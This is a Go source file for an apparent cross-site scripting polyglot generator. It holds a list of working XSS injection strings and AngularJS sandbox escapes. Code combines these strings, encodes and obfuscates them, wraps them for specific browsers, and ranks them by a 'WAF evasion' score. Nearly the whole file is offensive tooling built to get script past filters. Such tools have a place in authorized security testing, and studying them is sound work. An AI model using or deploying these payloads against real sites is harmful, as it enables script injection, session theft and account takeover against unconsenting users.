package polyglot

import (
	"errors"
	"math/rand"
	"sort"
	"sync"
	"time"
	"unicode/utf8"

	"github.com/rs/zerolog/log"
)

var ErrNoTargetContexts = errors.New("no target contexts given")

const (
	DefaultMaxLength   = 500
	DefaultMaxPayloads = 10
	// maxRankedComponents bounds the combinations to the best ranked components.
	maxRankedComponents = 8
	maxCombinationSize  = 3
	universalMaxLength  = 300
	browserVariantBases = 3
)

// baseComponents are the building blocks every polyglot is made of.
var baseComponents = []Component{
	component("<script>alert(1)</script>", 10, HTMLContent),
	component("<img src=x onerror=alert(1)>", 9, HTMLContent, HTMLAttributeUnquoted),
	component("<svg onload=alert(1)>", 8, HTMLContent),
	component(`" onmouseover=alert(1) "`, 8, HTMLAttribute),
	component("' onclick=alert(1) '", 8, HTMLAttribute),
	component("';alert(1);//", 9, JSStringSingle),
	component(`";alert(1);//`, 9, JSStringDouble),
	component("`);alert(1);//", 7, JSTemplate),
	component("javascript:alert(1)", 7, URLParameter, URLPath),
	{Content: "expression(alert(1))", Contexts: NewContextSet(CSSProperty), Priority: 6},
	component(`}body{background:url("javascript:alert(1)")`, 6, CSSProperty),
	component("</script><img src=x onerror=alert(1)>", 8, JSStringSingle, JSStringDouble, HTMLContent),
	component("--></script><svg onload=alert(1)><!--", 7, HTMLContent, CSSComment, JSComment),
	component("<details open ontoggle=alert(1)>", 7, HTMLContent),
	component(`<video><source onerror="alert(1)">`, 6, HTMLContent),
	component("<audio src=x onerror=alert(1)>", 6, HTMLContent),
	component("<input autofocus onfocus=alert(1)>", 6, HTMLContent),
	component("<select onfocus=alert(1) autofocus>", 5, HTMLContent),
	component(`{{constructor.constructor("alert(1)")()}}`, 6, HTMLContent, HTMLAttribute),
	component(`{{$root.constructor.constructor("alert(1)")()}}`, 5, HTMLContent, HTMLAttribute),
}

// BaseComponents returns a copy of the built-in components.
func BaseComponents() []Component {
	return append([]Component(nil), baseComponents...)
}

var universalPatterns = []string{
	"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//",
	`"-alert(1)-"`,
	`'"--></style></script><svg onload=alert()>`,
}

var combineSeparators = []string{"", "<!--", "*/", "-->", "//"}

type browserWrap struct {
	prefix, suffix string
}

var browserModifications = map[string][]browserWrap{
	"chrome":  {{"<details open ontoggle=", ">"}, {"<dialog onclose=", ""}},
	"firefox": {{"<xul:script>", "</xul:script>"}, {"<browser onload=", ">"}},
	"safari":  {{"<webkit>", "</webkit>"}, {"<video autoplay oncanplay=", ">"}},
	"ie":      {{"<xml>", "</xml>"}, {`<object data="javascript:`, `">`}},
}

// Options tunes Generate.
type Options struct {
	MaxLength          int
	MaxPayloads        int
	IncludeObfuscation bool
	TargetBrowsers     []string
}

func DefaultOptions() Options {
	return Options{
		MaxLength:          DefaultMaxLength,
		MaxPayloads:        DefaultMaxPayloads,
		IncludeObfuscation: true,
	}
}

// Engine generates polyglots. Its random source is guarded, so one Engine
// may serve concurrent callers.
type Engine struct {
	mu  sync.Mutex
	rng *rand.Rand
}

type EngineOption func(*Engine)

// WithSeed makes generation reproducible. Zero keeps the time based seed.
func WithSeed(seed int64) EngineOption {
	return func(e *Engine) {
		if seed != 0 {
			e.rng = rand.New(rand.NewSource(seed))
		}
	}
}

func NewEngine(opts ...EngineOption) *Engine {
	e := &Engine{rng: rand.New(rand.NewSource(time.Now().UnixNano()))}
	for _, opt := range opts {
		opt(e)
	}
	return e
}

func runeLen(s string) int { return utf8.RuneCountInString(s) }

func newPayload(content string, contexts ContextSet, components []Component) PolyglotPayload {
	return PolyglotPayload{
		Payload:          content,
		Length:           runeLen(content),
		EncodingsUsed:    []EncodingTechnique{},
		ObfuscationsUsed: []ObfuscationTechnique{},
		Components:       append([]Component(nil), components...),
		contextSet:       contexts,
	}
}

// Generate builds, scores and ranks polyglots for targets. No payload is
// longer than opts.MaxLength and results are sorted by confidence, highest first.
func (e *Engine) Generate(targets ContextSet, opts Options) ([]PolyglotPayload, error) {
	if len(targets) == 0 {
		return nil, ErrNoTargetContexts
	}
	if opts.MaxLength <= 0 {
		opts.MaxLength = DefaultMaxLength
	}
	if opts.MaxPayloads <= 0 {
		opts.MaxPayloads = DefaultMaxPayloads
	}
	log.Info().Int("contexts", len(targets)).Int("max_length", opts.MaxLength).Msg("Generating polyglots")

	e.mu.Lock()
	defer e.mu.Unlock()

	basic := e.basicPolyglots(targets, opts.MaxLength)
	payloads := append([]PolyglotPayload(nil), basic...)
	payloads = append(payloads, e.encodedPolyglots(basic, opts.MaxLength)...)
	if opts.IncludeObfuscation {
		payloads = append(payloads, e.obfuscatedPolyglots(basic, opts.MaxLength)...)
	}
	if len(opts.TargetBrowsers) > 0 {
		payloads = append(payloads, browserPolyglots(basic, opts.TargetBrowsers, opts.MaxLength)...)
	}

	for i := range payloads {
		p := &payloads[i]
		p.Contexts = p.contextSet.Sorted()
		p.Confidence = confidence(p, targets)
		p.BrowserCompatibility = browserCompatibility(p.Payload)
		p.WAFEvasionScore = wafEvasionScore(p)
		p.ComplexityScore = complexityScore(p)
	}

	sort.SliceStable(payloads, func(i, j int) bool { return payloads[i].Confidence > payloads[j].Confidence })
	log.Debug().Int("generated", len(payloads)).Int("returned", min(len(payloads), opts.MaxPayloads)).Msg("Polyglots ranked")
	if len(payloads) > opts.MaxPayloads {
		payloads = payloads[:opts.MaxPayloads]
	}
	return payloads, nil
}

// rankComponents keeps the components that fit targets, best first.
func rankComponents(targets ContextSet) []Component {
	var suitable []Component
	for _, c := range baseComponents {
		if c.Contexts.Overlap(targets) > 0 {
			suitable = append(suitable, c)
		}
	}
	sort.SliceStable(suitable, func(i, j int) bool {
		if suitable[i].Priority != suitable[j].Priority {
			return suitable[i].Priority > suitable[j].Priority
		}
		return suitable[i].Contexts.Overlap(targets) > suitable[j].Contexts.Overlap(targets)
	})
	return suitable
}

// combinations yields the index combinations of size k out of n in lexicographic order.
func combinations(n, k int, yield func([]int)) {
	idx := make([]int, k)
	var rec func(start, depth int)
	rec = func(start, depth int) {
		if depth == k {
			yield(append([]int(nil), idx...))
			return
		}
		for i := start; i < n; i++ {
			idx[depth] = i
			rec(i+1, depth+1)
		}
	}
	rec(0, 0)
}

func (e *Engine) basicPolyglots(targets ContextSet, maxLength int) []PolyglotPayload {
	suitable := rankComponents(targets)
	top := suitable[:min(maxRankedComponents, len(suitable))]

	var out []PolyglotPayload
	for size := 1; size <= min(maxCombinationSize, len(suitable)); size++ {
		combinations(len(top), size, func(idx []int) {
			combo := make([]Component, len(idx))
			covered := ContextSet{}
			for i, j := range idx {
				combo[i] = top[j]
				covered = covered.union(top[j].Contexts)
			}
			combined := e.combine(combo, maxLength)
			if runeLen(combined) > maxLength {
				return
			}
			out = append(out, newPayload(combined, covered, combo))
		})
	}
	return out
}

// combine joins components, the highest priority first. Later components are
// wrapped in comments when safe, otherwise joined with a random separator.
func (e *Engine) combine(components []Component, maxLength int) string {
	if len(components) == 1 {
		return components[0].Content
	}
	ordered := append([]Component(nil), components...)
	sort.SliceStable(ordered, func(i, j int) bool { return ordered[i].Priority > ordered[j].Priority })

	combined := ordered[0].Content
	for _, c := range ordered[1:] {
		if c.CommentSafe {
			combined += "/*" + c.Content + "*/"
		} else {
			combined += combineSeparators[e.rng.Intn(len(combineSeparators))] + c.Content
		}
	}

	if e.rng.Float64() > 0.7 && runeLen(combined) < universalMaxLength {
		prefixed := universalPatterns[e.rng.Intn(len(universalPatterns))] + combined
		if runeLen(prefixed) <= maxLength {
			combined = prefixed
		}
	}
	return combined
}

func (e *Engine) encodedPolyglots(base []PolyglotPayload, maxLength int) []PolyglotPayload {
	var out []PolyglotPayload
	for _, b := range base {
		for _, chain := range encodingChains {
			content := b.Payload
			var used []EncodingTechnique
			for _, technique := range chain {
				next := applyEncoding(content, technique, e.rng)
				if runeLen(next) > maxLength {
					break
				}
				content = next
				used = append(used, technique)
			}
			if len(used) == 0 || content == b.Payload {
				continue
			}
			p := newPayload(content, b.contextSet, b.Components)
			p.EncodingsUsed = used
			out = append(out, p)
		}
	}
	return out
}

func (e *Engine) obfuscatedPolyglots(base []PolyglotPayload, maxLength int) []PolyglotPayload {
	var out []PolyglotPayload
	for _, b := range base {
		for _, chain := range obfuscationChains[:usedObfuscationChains] {
			content := b.Payload
			var used []ObfuscationTechnique
			for _, technique := range chain {
				next := applyObfuscation(content, technique, e.rng)
				if runeLen(next) > maxLength {
					break
				}
				content = next
				used = append(used, technique)
			}
			if len(used) == 0 || content == b.Payload {
				continue
			}
			p := newPayload(content, b.contextSet, b.Components)
			p.EncodingsUsed = append(p.EncodingsUsed, b.EncodingsUsed...)
			p.ObfuscationsUsed = used
			out = append(out, p)
		}
	}
	return out
}

// browserPolyglots wraps the first base payloads in browser specific markup.
// Unknown browsers are ignored.
func browserPolyglots(base []PolyglotPayload, browsers []string, maxLength int) []PolyglotPayload {
	var out []PolyglotPayload
	for _, b := range base[:min(browserVariantBases, len(base))] {
		for _, browser := range browsers {
			for _, w := range browserModifications[browser] {
				content := w.prefix + b.Payload + w.suffix
				if runeLen(content) > maxLength {
					continue
				}
				p := newPayload(content, b.contextSet, b.Components)
				p.EncodingsUsed = append(p.EncodingsUsed, b.EncodingsUsed...)
				p.ObfuscationsUsed = append(p.ObfuscationsUsed, b.ObfuscationsUsed...)
				p.TargetBrowser = browser
				out = append(out, p)
			}
		}
	}
	return out
}

var minimalComponents = []Component{
	component(`"onclick=alert() "`, 10, HTMLAttribute, HTMLContent),
	component("';alert();//", 9, JSStringSingle, JSStringDouble),
	component("<svg onload=alert()>", 8, HTMLContent),
}

// GenerateMinimal returns the short component covering most of targets, or
// false when none covers any of them.
func (e *Engine) GenerateMinimal(targets ContextSet) (*PolyglotPayload, bool) {
	log.Info().Int("contexts", len(targets)).Msg("Generating minimal polyglot")

	var best *Component
	bestCoverage := 0
	for i := range minimalComponents {
		if cov := minimalComponents[i].Contexts.Overlap(targets); cov > bestCoverage {
			bestCoverage = cov
			best = &minimalComponents[i]
		}
	}
	if best == nil {
		return nil, false
	}

	p := newPayload(best.Content, best.Contexts, []Component{*best})
	p.Contexts = best.Contexts.Sorted()
	p.Confidence = 0.8
	p.ComplexityScore = 1.0
	p.WAFEvasionScore = 0.6
	p.BrowserCompatibility = make(map[string]float64, len(browsers))
	for _, b := range browsers {
		p.BrowserCompatibility[b] = 0.8
	}
	return &p, true
}
